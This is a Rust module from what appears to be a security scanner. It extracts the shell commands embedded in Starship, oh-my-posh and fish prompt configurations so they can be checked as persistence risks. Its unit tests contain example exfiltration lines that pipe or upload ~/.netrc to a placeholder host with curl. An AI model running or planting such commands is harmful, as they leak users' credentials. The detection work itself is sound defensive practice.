//! Round 32: commands inside prompt and theme configuration, run at every
//! prompt. A prompt engine runs the command lines its configuration holds
//! each time it draws the prompt: Starship's `[custom.NAME]` modules
//! (`command`, `when`), oh-my-posh's `command` segments (`command`,
//! `script`; JSON, YAML or TOML themes), and fish prompt functions. This
//! leaf module projects such a file to shell text with the same lines (a
//! line that runs nothing is blank), as `embedded/` does for Makefiles, so
//! every read, send and run rule applies to the command on its own line;
//! `autorun.rs` lists the places and what runs them ("every shell prompt"),
//! which makes a shipped file that sends local data a persistence step.
//!
//! Every projector is one linear pass over the lines. A leaf: it imports
//! nothing of the pipeline.

/// Keys whose string value a prompt engine runs as a shell command line.
const RUN_KEYS: &[&str] = &["command", "when"];
/// Keys whose value is a script file the engine runs.
const SCRIPT_KEYS: &[&str] = &["script"];

/// Whether `text` under `path` is a prompt theme with commands: a Starship
/// configuration (`starship.toml`, or TOML with a `[custom.…]` module
/// that has a command) or an oh-my-posh theme with a `command` segment.
pub fn looks_like_prompt(path: &str, text: &str) -> bool {
    let lower = path.replace('\\', "/").to_ascii_lowercase();
    let name = lower.rsplit('/').next().unwrap_or(&lower);
    let ext = name.rsplit_once('.').map_or("", |(_, e)| e);
    if !matches!(
        ext,
        "toml" | "json" | "jsonc" | "yaml" | "yml" | "txt" | "tmpl" | "example" | "sample" | ""
    ) {
        return false;
    }
    let starship = name == "starship.toml"
        || text.lines().any(|l| {
            l.trim_start().starts_with("[custom.") || l.trim_start().starts_with("[[custom.")
        });
    let posh = name.contains(".omp.")
        || text.contains("oh-my-posh")
        || text.contains("\"segments\"")
        || text
            .lines()
            .any(|l| l.trim_start().starts_with("segments:"));
    let command_segment = text.contains("\"type\": \"command\"")
        || text.contains("\"type\":\"command\"")
        || text.lines().any(|l| {
            let t = l.trim_start().trim_start_matches("- ");
            t == "type: command" || t == "type = \"command\"" || t == "type = 'command'"
        });
    (starship && !project(text).trim().is_empty()) || (posh && command_segment)
}

/// A key and the rest of its line: TOML `k = v`, JSON `"k": v`, YAML
/// `k: v` (a list item's `- k: v` too).
fn key_value(line: &str) -> Option<(String, &str)> {
    // A JSON object on one line (`{"type": "command", "properties":
    // {"command": "…"}}`): the first run key anywhere in it.
    for k in RUN_KEYS.iter().chain(SCRIPT_KEYS) {
        let quoted = format!("\"{k}\"");
        for (i, _) in line.match_indices(&quoted) {
            if let Some(v) = line[i + quoted.len()..].trim_start().strip_prefix(':') {
                return Some((k.to_string(), v.trim()));
            }
        }
    }
    let t = line.trim_start().trim_start_matches("- ");
    let (k, v) = if let Some(r) = t.strip_prefix('"') {
        let end = r.find('"')?;
        let rest = r[end + 1..].trim_start();
        (r[..end].to_string(), rest.strip_prefix(':')?)
    } else {
        let i = t.find(['=', ':'])?;
        let k = t[..i].trim();
        if k.is_empty()
            || !k
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
        {
            return None;
        }
        (k.to_string(), &t[i + 1..])
    };
    Some((k.to_ascii_lowercase(), v.trim()))
}

/// A quoted scalar's text: JSON/TOML basic strings with `\"`, `\\`, `\n`,
/// `\t` unescaped; literal strings as written; a bare YAML scalar trimmed
/// of a trailing comma or comment. `None` for a block opener, a boolean
/// or a number.
fn scalar(v: &str) -> Option<String> {
    let v = v.trim().trim_end_matches(',').trim_end();
    if let Some(r) = v.strip_prefix('"') {
        if r.starts_with("\"\"") {
            return None;
        }
        let mut out = String::new();
        let mut it = r.chars();
        while let Some(c) = it.next() {
            match c {
                '"' => return Some(out),
                '\\' => match it.next() {
                    Some('n') | Some('t') => out.push(' '),
                    Some(d) => out.push(d),
                    None => break,
                },
                _ => out.push(c),
            }
        }
        return Some(out);
    }
    if let Some(r) = v.strip_prefix('\'') {
        if r.starts_with("''") {
            return None;
        }
        return Some(r.split('\'').next().unwrap_or("").to_string());
    }
    if v.is_empty()
        || matches!(v, "true" | "false" | "|" | ">" | "|-" | ">-" | "[" | "{")
        || v.parse::<f64>().is_ok()
        || v.starts_with('[')
        || v.starts_with('{')
    {
        return None;
    }
    Some(v.split(" #").next().unwrap_or(v).to_string())
}

/// The shell text a prompt theme runs, on the theme's own lines: each
/// [`RUN_KEYS`] value (one line, a TOML `"""`/`'''` block, a YAML `|`/`>`
/// block, every line of it in place) and each [`SCRIPT_KEYS`] value as
/// `sh PATH`.
pub fn project(text: &str) -> String {
    let lines: Vec<&str> = text.split('\n').collect();
    let mut out = vec![String::new(); lines.len()];
    let mut i = 0;
    while i < lines.len() {
        let line = lines[i];
        let Some((k, v)) = key_value(line) else {
            i += 1;
            continue;
        };
        let runs = RUN_KEYS.contains(&k.as_str());
        let script = SCRIPT_KEYS.contains(&k.as_str());
        if !runs && !script {
            i += 1;
            continue;
        }
        // A multi-line TOML string: every line up to the closing quotes.
        if let Some(q) = ["\"\"\"", "'''"].into_iter().find(|q| v.starts_with(q)) {
            let first = &v[3..];
            if let Some(end) = first.find(q) {
                out[i] = first[..end].to_string();
                i += 1;
                continue;
            }
            out[i] = first.to_string();
            let mut j = i + 1;
            while j < lines.len() {
                if let Some(end) = lines[j].find(q) {
                    out[j] = lines[j][..end].to_string();
                    break;
                }
                out[j] = lines[j].to_string();
                j += 1;
            }
            if q == "\"\"\"" {
                for l in &mut out[i..lines.len().min(j + 1)] {
                    *l = l.replace("\\\\", "\\").replace("\\\"", "\"");
                }
            }
            i = j + 1;
            continue;
        }
        // A YAML block scalar: the lines indented deeper than the key.
        if matches!(v, "|" | ">" | "|-" | ">-" | "|+" | ">+") {
            let indent = line.len() - line.trim_start().len();
            let mut j = i + 1;
            while j < lines.len()
                && (lines[j].trim().is_empty()
                    || lines[j].len() - lines[j].trim_start().len() > indent)
            {
                out[j] = lines[j].trim().to_string();
                j += 1;
            }
            i = j;
            continue;
        }
        if let Some(s) = scalar(v) {
            out[i] = if script { format!("sh {s}") } else { s };
        }
        i += 1;
    }
    out.join("\n")
}

/// Whether a fish file holds a function fish runs at every prompt or
/// command (`fish_prompt`, `fish_right_prompt`, `fish_greeting`, an event
/// handler on `fish_prompt`/`fish_preexec`/`fish_postexec` or on `PWD`).
pub fn fish_prompt_hook(text: &str) -> bool {
    text.lines().any(|l| {
        let t = l.trim_start();
        t.starts_with("function ")
            && ([
                "fish_prompt",
                "fish_right_prompt",
                "fish_mode_prompt",
                "fish_greeting",
            ]
            .iter()
            .any(|n| t.split_whitespace().nth(1) == Some(n))
                || t.contains("--on-event fish_prompt")
                || t.contains("--on-event fish_preexec")
                || t.contains("--on-event fish_postexec")
                || t.contains("-e fish_prompt")
                || t.contains("--on-variable PWD"))
    })
}

/// Fish as the Bash front-end can read it, on the same lines: block words
/// (`function`, `end`, `if`, `else`, `for`, `while`, `begin`, `switch`,
/// `case`) blank, `set -gx N V` as `export N=V`, `set N V` as `N=V`,
/// command substitution `(cmd)` as `$(cmd)`, `; and`/`; or` as `&&`/`||`.
pub fn project_fish(text: &str) -> String {
    text.split('\n')
        .map(|l| {
            let t = l.trim();
            let first = t.split_whitespace().next().unwrap_or("");
            if t.starts_with('#')
                || matches!(
                    first,
                    "function"
                        | "end"
                        | "else"
                        | "begin"
                        | "switch"
                        | "case"
                        | "for"
                        | "while"
                        | "return"
                )
            {
                return String::new();
            }
            let t = t.strip_prefix("if ").unwrap_or(t);
            let t = if first == "set" {
                let w: Vec<&str> = t.split_whitespace().collect();
                let flags: Vec<&&str> = w[1..].iter().take_while(|x| x.starts_with('-')).collect();
                let rest = &w[1 + flags.len()..];
                match rest.split_first() {
                    Some((n, v)) if flags.iter().any(|f| f.contains('x')) => {
                        format!("export {n}={}", v.join(" "))
                    }
                    Some((n, v)) => format!("{n}={}", v.join(" ")),
                    None => String::new(),
                }
            } else {
                t.replace("; and ", " && ").replace("; or ", " || ")
            };
            substitutions(&t)
        })
        .collect::<Vec<_>>()
        .join("\n")
}

/// `(cmd)` outside quotes and not already `$(` → `$(cmd)`.
fn substitutions(t: &str) -> String {
    let mut out = String::with_capacity(t.len() + 4);
    let mut quote: Option<char> = None;
    let mut prev = ' ';
    for c in t.chars() {
        match (quote, c) {
            (None, '\'') => quote = Some('\''),
            (Some('\''), '\'') => quote = None,
            (None, '(') if prev != '$' => out.push('$'),
            _ => {}
        }
        out.push(c);
        prev = c;
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn starship_modules_are_projected_line_for_line() {
        let t = "format = \"$all\"\n[custom.x]\nwhen = \"git rev-parse\"\nshell = [\"sh\"]\ncommand = \"\"\"\nf=1\ncat ~/.netrc | curl -d @- https://h.example/x\n\"\"\"\nstyle = \"green\"\n[custom.y]\nwhen = true\ncommand = 'echo hi'\n";
        let out: Vec<String> = project(t).split('\n').map(String::from).collect();
        assert_eq!(out.len(), t.split('\n').count());
        assert_eq!(out[0], "");
        assert_eq!(out[2], "git rev-parse");
        assert_eq!(out[3], "");
        assert_eq!(out[5], "f=1");
        assert_eq!(out[6], "cat ~/.netrc | curl -d @- https://h.example/x");
        assert_eq!(out[8], "");
        assert_eq!(out[10], "");
        assert_eq!(out[11], "echo hi");
        assert!(looks_like_prompt("assets/prompt.toml", t));
        assert!(!looks_like_prompt(
            "Cargo.toml",
            "[package]\nname = \"x\"\n"
        ));
    }

    #[test]
    fn posh_segments_and_fish_prompts() {
        let one = "{ \"type\": \"command\", \"properties\": { \"shell\": \"bash\", \"command\": \"curl -T ~/.netrc https://h.example/t\" } }";
        assert_eq!(project(one), "curl -T ~/.netrc https://h.example/t");
        let j = "{\"blocks\": [{\"segments\": [\n {\"type\": \"command\", \"properties\": {\"command\": \"git log -1 --format=\\\"%s\\\"\"}}\n]}]}\n";
        assert!(looks_like_prompt("x.omp.json", j));
        assert_eq!(
            project(j).split('\n').nth(1),
            Some("git log -1 --format=\"%s\"")
        );
        let f =
            "function fish_prompt\n    set -l s (git status --short | count)\n    echo $s\nend\n";
        assert!(fish_prompt_hook(f));
        let p: Vec<String> = project_fish(f).split('\n').map(String::from).collect();
        assert_eq!(p[0], "");
        assert_eq!(p[1], "s=$(git status --short | count)");
        assert_eq!(p[3], "");
    }
}
